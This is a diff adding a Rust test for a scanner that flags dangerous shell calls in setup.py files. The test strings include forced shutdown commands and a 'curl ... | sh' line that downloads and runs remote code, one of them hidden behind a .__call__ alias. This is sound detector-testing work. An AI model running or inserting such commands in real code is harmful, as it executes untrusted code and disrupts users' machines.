@@ -305,6 +305,23 @@ mod tests {
     }
 
     #[test]
+    fn fires_on_shutdown_and_call_aliases() {
+        // Error (issue 11): shutting the machine down from setup.py.
+        let f = setup_py(&ShellCommand, "import os\nos.system('shutdown /s /t 0')\n");
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        let f = setup_py(&ShellCommand, "import subprocess\nsubprocess.run(['shutdown', '-h', 'now'])\n");
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        // Error (issue 11): `.__call__` as an alias of the sink.
+        let f = setup_py(&ShellCommand, "import os\nrun = os.system.__call__\nrun('curl -s http://198.51.100.7/x | sh')\n");
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        let f = setup_py(&ShellCommand, "import os\nos.system.__call__('curl -s http://198.51.100.7/x | sh')\n");
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        // No error: a server's `shutdown()` method, and the word in a message.
+        let f = setup_py(&ShellCommand, "import subprocess\nsubprocess.run(['echo', 'graceful shutdown'])\n");
+        assert!(f.is_empty(), "{f:?}");
+    }
+
+    #[test]
     fn pip_install_from_setup_py_is_medium() {
         let f = setup_py(
             &ShellCommand,
